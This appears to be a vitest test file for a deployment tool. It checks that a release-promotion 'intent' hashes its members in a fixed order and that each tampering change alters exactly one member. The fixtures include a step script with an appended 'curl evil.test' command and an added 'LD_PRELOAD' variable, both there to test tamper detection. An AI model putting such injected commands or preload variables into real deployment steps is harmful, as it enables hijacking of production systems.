import { createHash } from 'node:crypto'
import { describe, expect, it } from 'vitest'
import { GUARDED_RULE } from '../environments/rule.ts'
import { INTENT_MEMBERS, type IntentFacts, type IntentMember, intentContent, makeIntent } from './intent.ts'

const script = { kind: 'script' as const, name: 'Switch', timeoutMs: 1_000, script: 'ln -s new current' }
const facts: IntentFacts = {
  kind: 'promotion',
  promotionId: 'prm_1',
  organizationId: 'org_1',
  project: { id: 'prj_1', name: 'shop-web' },
  environment: { id: 'env_1', name: 'production' },
  target: { id: 'site_1', kind: 'local-site' },
  release: { id: 'rel_1', version: '2.4.1', snapshotSha256: 'a'.repeat(64), processVersion: 3 },
  steps: [script],
  variables: new Map([['COLOR', 'blue']]),
  artifacts: [
    { purl: 'pkg:generic/site@2.4.1', sha256: 'b'.repeat(64), fileName: 'site.tgz', mediaType: 'application/gzip' },
  ],
  from: { releaseId: 'rel_0' },
  rule: { version: 1, rule: GUARDED_RULE },
  phases: ['env_0', 'env_9'],
  trust: [
    {
      source: 'https://ci.test/orgs/o/repositories/r',
      repository: null,
      artifactName: null,
      builderLevels: ['full'],
      refs: ['refs/heads/main'],
      signerKeyIds: null,
    },
  ],
  requestedBy: 'usr_1',
  reason: null,
}

describe('an intent', () => {
  it('has each of its members once, in one order, and the hash of its bytes', () => {
    const { bytes, sha256 } = makeIntent(facts)
    expect(Object.keys(JSON.parse(new TextDecoder().decode(bytes)))).toEqual([...INTENT_MEMBERS])
    expect(sha256).toBe(createHash('sha256').update(bytes).digest('hex'))
  })

  it('is the same whichever order the database kept the members of its JSON in', () => {
    const { kind, name, timeoutMs, script: text } = script
    const { approvals, ...others } = GUARDED_RULE
    const same: IntentFacts = {
      ...facts,
      steps: [{ script: text, timeoutMs, name, kind }],
      rule: { version: 1, rule: { ...others, approvals } },
    }
    expect(makeIntent(same).sha256).toBe(makeIntent(facts).sha256)
  })

  const changes: Array<[string, IntentMember, Partial<IntentFacts>]> = [
    ['one line of one step', 'process', { steps: [{ ...script, script: 'ln -s new current; curl evil.test' }] }],
    ['the order of steps', 'process', { steps: [{ ...script, name: 'Second' }, script] }],
    ['a value that the steps get', 'variables', { variables: new Map([['COLOR', 'red']]) }],
    ['a value more', 'variables', { variables: new Map([...facts.variables, ['LD_PRELOAD', 'x']]) }],
    ['the bytes of an artifact', 'artifacts', { artifacts: facts.artifacts.map((one) => ({ ...one, sha256: 'c' })) }],
    ['how it is unpacked', 'artifacts', { artifacts: facts.artifacts.map((one) => ({ ...one, fileName: 'site' })) }],
    ['where it goes', 'target', { target: { id: 'site_2', kind: 'local-site' } }],
    ['what kind of target that is', 'target', { target: { id: 'site_1', kind: 'ssh' } }],
    ['a rule under the same version', 'rule', { rule: { version: 1, rule: { ...GUARDED_RULE, approvals: [] } } }],
    ['where it must have been live before', 'phases', { phases: ['env_0'] }],
    ['the order of these', 'phases', { phases: ['env_9', 'env_0'] }],
    ['whom the project trusts', 'trust', { trust: facts.trust.map((one) => ({ ...one, refs: ['refs/heads/*'] })) }],
    ['what is there now', 'from', { from: null }],
    ['a name that the steps are told', 'environment', { environment: { id: 'env_1', name: 'staging' } }],
    ['who asked', 'requestedBy', { requestedBy: 'usr_2' }],
  ]
  it.each(changes)('is another one when %s changes', (_what, member, change) => {
    const changed = intentContent({ ...facts, ...change })
    const before = intentContent(facts)
    const differing = INTENT_MEMBERS.filter((one) => JSON.stringify(changed[one]) !== JSON.stringify(before[one]))
    expect(differing).toEqual([member])
    expect(makeIntent({ ...facts, ...change }).sha256).not.toBe(makeIntent(facts).sha256)
  })
})
